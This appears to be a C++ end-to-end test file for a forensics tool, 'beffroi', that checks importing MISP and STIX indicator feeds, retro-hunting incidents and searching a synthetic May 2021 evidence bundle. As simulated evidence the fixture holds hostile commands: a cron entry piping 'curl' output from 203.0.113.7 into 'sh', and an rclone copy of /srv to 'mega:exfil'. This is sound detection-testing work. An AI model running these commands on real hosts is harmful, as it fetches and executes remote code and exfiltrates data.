// beffroi ioc import / list / remove and beffroi search, end to end: a host bundle carrying
// files, processes, persistence entries, sockets and DNS records from May 2021 is analyzed
// first; feeds learned "in June" (MISP feed directory, STIX bundle, a truncated one) are
// imported afterwards and must retro-hunt incidents dated from the evidence, never import
// the same content twice, and be matched by later scans.
#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>

#include "common/hash.h"
#include "run.h"

namespace beffroi {
namespace {

namespace fs = std::filesystem;
using e2e::As;
using e2e::RunBinary;
using Json = nlohmann::json;

const std::string kProcSha = std::string(60, 'b') + "0001";
const std::string kMalwareText = "this file stands for a malicious loader\n";

class FeedsE2E : public ::testing::Test {
 protected:
  void SetUp() override {
    base_ = fs::temp_directory_path() / ("beffroi_feeds_e2e_" + std::to_string(::getpid()));
    fs::remove_all(base_);
    fs::create_directories(base_ / "tree");
    tree_ = (base_ / "tree").string();
    db_ = (base_ / "city.db").string();
    rules_ = (base_ / "none.yar").string();
    std::ofstream(rules_) << "rule Never { condition: false }\n";
    std::ofstream(tree_ + "/loader.bin") << kMalwareText;
    std::ofstream(tree_ + "/notes.txt") << "meeting at 10\n";
    file_sha_ = Sha256Hex(kMalwareText);
  }
  void TearDown() override { fs::remove_all(base_); }

  std::string Write(const std::string& rel, const std::string& content) {
    fs::path p = base_ / rel;
    fs::create_directories(p.parent_path());
    std::ofstream(p, std::ios::binary) << content;
    return p.string();
  }

  // A bundle of the tree, plus host and network events of May 2021, re-sealed.
  std::string ForgedBundle() {
    std::string bundle = (base_ / "bundle").string();
    auto c = RunBinary({BEFFROI_HOST_BIN, "collect", tree_, "--out", bundle, "--no-host-facts",
                        "-q", "--sample-recent", "off"});
    EXPECT_EQ(c.exit_code, 0) << c.err;
    std::string events;
    {
      std::ifstream in(bundle + "/events.ndjson");
      events.assign(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
    }
    std::string host = Json::parse(events.substr(0, events.find('\n')))["host"]["name"];
    auto event = [&](const char* at, const char* dataset, Json fields) {
      Json e = {{"schema", "beffroi/1"},
                {"@timestamp", at},
                {"event", {{"kind", "state"}, {"dataset", dataset}}},
                {"host", {{"name", host}}}};
      e.update(fields);
      events += e.dump() + "\n";
    };
    // The host reports its address, so network records land on it.
    event("2021-05-01T00:00:00.000000Z", "beffroi.host",
          {{"host", {{"name", host}, {"ip", {"10.0.0.5"}}}}});
    event("2021-05-03T08:00:00.000000Z", "beffroi.dns",
          {{"source", {{"ip", "10.0.0.5"}, {"port", 53000}}},
           {"destination", {{"ip", "10.0.0.53"}, {"port", 53}}},
           {"network", {{"transport", "udp"}}},
           {"dns", {{"question", {{"name", "c2.evil.example"}}}}}});
    event("2021-05-04T09:00:00.000000Z", "beffroi.process",
          {{"process",
            {{"pid", 4242},
             {"name", "rclone"},
             {"executable", "/tmp/.x/rclone"},
             {"command_line", "/tmp/.x/rclone copy /srv mega:exfil"},
             {"hash", {{"sha256", kProcSha}}}}}});
    event("2021-05-05T03:30:00.000000Z", "beffroi.persistence",
          {{"file", {{"path", "/etc/cron.d/update"}}},
           {"process", {{"command_line", "curl -s http://203.0.113.7/p.sh | sh"}}},
           {"beffroi", {{"persistence", {{"mechanism", "cron"}, {"schedule", "@reboot"}}}}}});
    event("2021-05-06T12:00:00.000000Z", "beffroi.socket",
          {{"source", {{"ip", "0.0.0.0"}, {"port", 4444}}}, {"network", {{"transport", "tcp"}}}});
    event("2021-05-07T12:00:00.000000Z", "beffroi.flow",
          {{"source", {{"ip", "10.0.0.5"}, {"port", 49152}}},
           {"destination", {{"ip", "203.0.113.7"}, {"port", 443}}},
           {"network", {{"transport", "tcp"}}}});
    fs::permissions(bundle + "/manifest.json", fs::perms::owner_write, fs::perm_options::add);
    Json manifest = Json::parse(std::ifstream(bundle + "/manifest.json"));
    for (auto& f : manifest["files"]) {
      if (f["path"] == "events.ndjson") {
        f["sha256"] = Sha256Hex(events);
        f["size"] = events.size();
      }
    }
    fs::permissions(bundle + "/events.ndjson", fs::perms::owner_write, fs::perm_options::add);
    std::ofstream(bundle + "/events.ndjson", std::ios::trunc) << events;
    std::ofstream(bundle + "/manifest.json", std::ios::trunc) << manifest.dump();
    return bundle;
  }

  std::string MispFeed(const std::string& extra_attribute = "") {
    std::string dir = "misp";
    Write(dir + "/manifest.json",
          R"({"11111111-0000-4000-8000-000000000001": {"info": "Ryuk wave"},
              "11111111-0000-4000-8000-000000000002": {"info": "cut short"}})");
    Json ev = {
        {"Event",
         {{"uuid", "11111111-0000-4000-8000-000000000001"},
          {"info", "Ryuk wave"},
          {"threat_level_id", "1"},
          {"Tag",
           {{{"name",
              "misp-galaxy:mitre-attack-pattern=\"Data Encrypted for Impact - "
              "T1486\""}},
            {{"name", "misp-galaxy:ransomware=\"Ryuk\""}}}},
          {"Attribute",
           {{{"uuid", "a1"}, {"type", "domain"}, {"value", "evil.example"}, {"to_ids", true}},
            {{"uuid", "a2"}, {"type", "sha256"}, {"value", kProcSha}, {"to_ids", true}},
            {{"uuid", "a3"}, {"type", "ip-dst"}, {"value", "8.8.8.8"}, {"to_ids", true}},
            {{"uuid", "a4"}, {"type", "frobnicate"}, {"value", "x"}, {"to_ids", true}}}}}}};
    if (!extra_attribute.empty()) ev["Event"]["Attribute"].push_back(Json::parse(extra_attribute));
    Write(dir + "/11111111-0000-4000-8000-000000000001.json", ev.dump());
    Write(
        dir + "/11111111-0000-4000-8000-000000000002.json",
        R"({"Event": {"uuid": "11111111-0000-4000-8000-000000000002", "Attribute": [{"type": "ip-dst", "value": "203.0.113.7", "to_ids": true}, {"type": "md5", "val)");
    return (base_ / dir).string();
  }

  Json RunJson(const std::vector<std::string>& argv, int expected_exit) {
    auto r = RunBinary(argv);
    EXPECT_EQ(r.exit_code, expected_exit) << r.out << r.err;
    Json j = Json::parse(r.out, nullptr, false);
    EXPECT_FALSE(j.is_discarded()) << r.out;
    return j;
  }

  fs::path base_;
  std::string tree_, db_, rules_, file_sha_;
};

TEST_F(FeedsE2E, MispFeedRetroHuntsDatedIncidentsAndTheSameFeedAddsNothing) {
  std::string bundle = ForgedBundle();
  Json a = RunJson(
      {BEFFROI_BIN, "analyze", bundle, "--db", db_, "--rules", rules_, "--no-iocs", "--json"}, 0);
  EXPECT_EQ(a[0]["host_observations"], 3);  // process, persistence, socket

  Json imp = RunJson({BEFFROI_BIN, "ioc", "import", MispFeed(), "--name", "city-misp", "--db", db_,
                      "--json", "--as", "analyst1"},
                     3);
  EXPECT_EQ(imp["status"], "imported");
  EXPECT_EQ(imp["version"], 1);
  EXPECT_EQ(imp["indicators"], 3);  // domain, sha256, and 203.0.113.7 from the cut file
  EXPECT_EQ(imp["warninglisted"]["public-resolvers"], 1);
  EXPECT_EQ(imp["skipped"]["unknown MISP type"], 1);
  EXPECT_EQ(imp["skipped"]["truncated or invalid JSON"], 1);
  bool names_object = false;
  for (const auto& w : imp["warnings"])
    names_object |= w.get<std::string>().find(
                        "attribute a4: unknown MISP attribute type "
                        "'frobnicate'") != std::string::npos;
  EXPECT_TRUE(names_object) << imp["warnings"].dump();
  // DNS, process, persistence command and flow all hit, on the one host: the ransomware
  // event's indicators make one incident, the address of the other event another.
  EXPECT_EQ(imp["retro_hunt"]["new_detections"], 4) << imp.dump(2);
  EXPECT_EQ(imp["retro_hunt"]["new_incidents"], 2);

  Json incidents = RunJson({BEFFROI_BIN, "incidents", "list", "--db", db_, "--json"}, 0);
  ASSERT_EQ(incidents.size(), 2u);
  std::set<std::string> where;
  for (const auto& incident : incidents) {
    bool ransomware = incident["playbook"] == "ransomware";
    // Dated from the evidence of May, not from the import.
    EXPECT_EQ(incident["first_seen"].get<std::string>().substr(0, 19),
              ransomware ? "2021-05-03T08:00:00" : "2021-05-05T03:30:00");
    EXPECT_EQ(incident["last_seen"].get<std::string>().substr(0, 19),
              ransomware ? "2021-05-04T09:00:00" : "2021-05-07T12:00:00");
    if (ransomware) {
      EXPECT_EQ(incident["techniques"], Json::array({"T1486"}));
    }
    Json show = RunJson({BEFFROI_BIN, "incidents", "show",
                         std::to_string(incident["id"].get<int>()), "--db", db_, "--json"},
                        0);
    for (const auto& d : show["detections_list"]) {
      where.insert(d["reasons"].value("observation", "") + " " + d["file_path"].get<std::string>());
      std::string list =
          d["reasons"].contains("list") ? d["reasons"]["list"] : d["reasons"]["source"];
      EXPECT_EQ(list, "feed city-misp v1");
      EXPECT_EQ(d["reasons"]["found_by"], "retro-hunt");
    }
  }
  EXPECT_TRUE(where.count("dns net:udp 10.0.0.5 -> 10.0.0.53:53")) << incidents.dump(2);
  EXPECT_TRUE(where.count("process process:/tmp/.x/rclone"));
  EXPECT_TRUE(where.count("persistence persistence:/etc/cron.d/update"));
  EXPECT_TRUE(where.count("flow net:tcp 10.0.0.5 -> 203.0.113.7:443"));

  // The same feed again: nothing added, no new detection, one version.
  Json again = RunJson(
      {BEFFROI_BIN, "ioc", "import", MispFeed(), "--name", "city-misp", "--db", db_, "--json"}, 0);
  EXPECT_EQ(again["status"], "unchanged");
  Json list = RunJson({BEFFROI_BIN, "ioc", "list", "--db", db_, "--json"}, 0);
  ASSERT_EQ(list.size(), 1u);
  EXPECT_EQ(list[0]["name"], "city-misp");
  EXPECT_EQ(list[0]["indicators"], 3);
  EXPECT_EQ(list[0]["imported_by"], As("analyst1"));

  // A changed feed is a new version that replaces the old one; the retro-hunt adds only the
  // new finding (the file of the tree, by hash).
  Json v2 = RunJson({BEFFROI_BIN, "ioc", "import",
                     MispFeed(R"({"uuid": "a5", "type": "sha256", "value": ")" + file_sha_ +
                              R"(", "to_ids": true})"),
                     "--name", "city-misp", "--db", db_, "--json"},
                    3);
  EXPECT_EQ(v2["version"], 2);
  EXPECT_EQ(v2["replaces"]["version"], 1);
  EXPECT_EQ(v2["retro_hunt"]["new_detections"], 1);
  Json all = RunJson({BEFFROI_BIN, "ioc", "list", "--all", "--db", db_, "--json"}, 0);
  ASSERT_EQ(all.size(), 2u);
  EXPECT_EQ(all[0]["status"], "superseded");
  EXPECT_EQ(all[1]["status"], "current");

  // Later scans match the stored feed: the loader in the tree is found by its hash.
  Json scan = RunJson({BEFFROI_BIN, "scan", tree_, "--db", db_, "--rules", rules_, "--json"}, 3);
  EXPECT_GE(scan["findings"], 1);
  Json scan_off = RunJson({BEFFROI_BIN, "scan", tree_, "--db", db_, "--rules", rules_, "--no-feeds",
                           "--json", "--rescan-all"},
                          0);

  // Remove: not matched any more; removing twice is an error.
  Json removed = RunJson({BEFFROI_BIN, "ioc", "remove", "city-misp", "--db", db_, "--json"}, 0);
  EXPECT_EQ(removed["version"], 2);
  EXPECT_EQ(RunJson({BEFFROI_BIN, "ioc", "list", "--db", db_, "--json"}, 0).size(), 0u);
  auto twice = RunBinary({BEFFROI_BIN, "ioc", "remove", "city-misp", "--db", db_});
  EXPECT_EQ(twice.exit_code, 1);
  EXPECT_NE(twice.err.find("already removed"), std::string::npos) << twice.err;
}

TEST_F(FeedsE2E, StixBundlesTruncatedOnesAndUnsupportedPatterns) {
  RunJson({BEFFROI_BIN, "analyze", ForgedBundle(), "--db", db_, "--rules", rules_, "--no-iocs",
           "--json"},
          0);
  std::string bundle = R"({"type":"bundle","id":"bundle--1","objects":[
    {"type":"indicator","spec_version":"2.1","id":"indicator--a","name":"rclone staging",
     "pattern_type":"stix","confidence":90,
     "pattern":"[file:hashes.'SHA-256' = ')" +
                       kProcSha + R"('] OR [ipv4-addr:value = '203.0.113.0/24']"},
    {"type":"indicator","id":"indicator--b","pattern_type":"stix","pattern":"[file:name = 'a' AND file:size = 3]"},
    {"type":"indicator","id":"indicator--c","pattern_type":"stix","pattern":"[domain-name:value = 'other.example']"}]})";
  std::string good = Write("stix/good.json", bundle);
  Json imp = RunJson({BEFFROI_BIN, "ioc", "import", good, "--db", db_, "--json"}, 3);
  EXPECT_EQ(imp["feed"], "good");
  EXPECT_EQ(imp["indicators"], 3);
  EXPECT_EQ(imp["skipped"]["STIX pattern not supported"], 1);
  ASSERT_FALSE(imp["warnings"].empty());
  EXPECT_NE(imp["warnings"][0].get<std::string>().find(good + ": indicator--b: pattern"),
            std::string::npos)
      << imp["warnings"];

  std::string cut = Write("stix/cut.json", bundle.substr(0, bundle.find("indicator--c") + 4));
  auto r = RunBinary({BEFFROI_BIN, "ioc", "import", cut, "--db", db_, "--name", "cut"});
  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;  // its indicators are known from "good"
  EXPECT_NE(r.err.find(cut + ": not valid JSON at byte"), std::string::npos) << r.err;
  EXPECT_NE(r.out.find("feed cut v1"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("2 indicators"), std::string::npos) << r.out;

  std::string junk = Write("stix/junk.json", "{\"type\": \"bundle\", \"objects\": [");
  auto j = RunBinary({BEFFROI_BIN, "ioc", "import", junk, "--db", db_});
  EXPECT_EQ(j.exit_code, 1);
  EXPECT_NE(j.err.find("no usable indicator"), std::string::npos) << j.err;
  auto missing = RunBinary({BEFFROI_BIN, "ioc", "import", (base_ / "nope").string(), "--db", db_});
  EXPECT_EQ(missing.exit_code, 1);
  auto usage = RunBinary({BEFFROI_BIN, "ioc", "import", good, "--format", "yaml", "--db", db_});
  EXPECT_EQ(usage.exit_code, 2);
}

TEST_F(FeedsE2E, SearchByHashDomainAddressAndRangeWithinATimeSpan) {
  RunJson({BEFFROI_BIN, "analyze", ForgedBundle(), "--db", db_, "--rules", rules_, "--no-iocs",
           "--json"},
          0);
  Json h = RunJson({BEFFROI_BIN, "search", "--hash", kProcSha, "--db", db_, "--json"}, 0);
  ASSERT_EQ(h["observations"].size(), 1u);
  EXPECT_EQ(h["observations"][0]["kind"], "process");
  EXPECT_EQ(h["observations"][0]["observed_at"], "2021-05-04T09:00:00.000000Z");
  ASSERT_EQ(h["hosts"].size(), 1u);
  Json f = RunJson({BEFFROI_BIN, "search", "--hash", file_sha_, "--db", db_, "--json"}, 0);
  ASSERT_EQ(f["observations"].size(), 1u);
  EXPECT_EQ(f["observations"][0]["path"], tree_ + "/loader.bin");

  Json exact =
      RunJson({BEFFROI_BIN, "search", "--domain", "evil.example", "--db", db_, "--json"}, 0);
  EXPECT_EQ(exact["observations"].size(), 0u);
  Json sub = RunJson(
      {BEFFROI_BIN, "search", "--domain", "Evil.Example", "--subdomains", "--db", db_, "--json"},
      0);
  ASSERT_EQ(sub["observations"].size(), 1u);
  EXPECT_EQ(sub["observations"][0]["domain"], "c2.evil.example");

  Json ip = RunJson({BEFFROI_BIN, "search", "--ip", "203.0.113.7", "--db", db_, "--json"}, 0);
  EXPECT_EQ(ip["observations"].size(), 1u);
  Json range = RunJson({BEFFROI_BIN, "search", "--ip", "10.0.0.0/24", "--db", db_, "--json"}, 0);
  EXPECT_EQ(range["observations"].size(), 2u);  // the DNS query and the flow
  EXPECT_EQ(range["query"]["field"], "cidr");
  Json span = RunJson({BEFFROI_BIN, "search", "--ip", "10.0.0.0/24", "--since", "2021-05-04",
                       "--until", "2021-05-07", "--db", db_, "--json"},
                      0);
  ASSERT_EQ(span["observations"].size(), 1u);
  EXPECT_EQ(span["observations"][0]["kind"], "flow");
  Json none = RunJson({BEFFROI_BIN, "search", "--ip", "10.0.0.0/24", "--until", "2021-05-01",
                       "--db", db_, "--json"},
                      0);
  EXPECT_EQ(none["observations"].size(), 0u);

  auto text = RunBinary({BEFFROI_BIN, "search", "--hash", kProcSha, "--db", db_});
  EXPECT_EQ(text.exit_code, 0);
  EXPECT_NE(text.out.find("1 observation on 1 host"), std::string::npos) << text.out;
  EXPECT_EQ(RunBinary({BEFFROI_BIN, "search", "--db", db_}).exit_code, 2);
  EXPECT_EQ(RunBinary({BEFFROI_BIN, "search", "--hash", "xyz", "--db", db_}).exit_code, 2);
  EXPECT_EQ(RunBinary({BEFFROI_BIN, "search", "--ip", "1.2.3.4", "--since", "soon", "--db", db_})
                .exit_code,
            2);
}

}  // namespace
}  // namespace beffroi
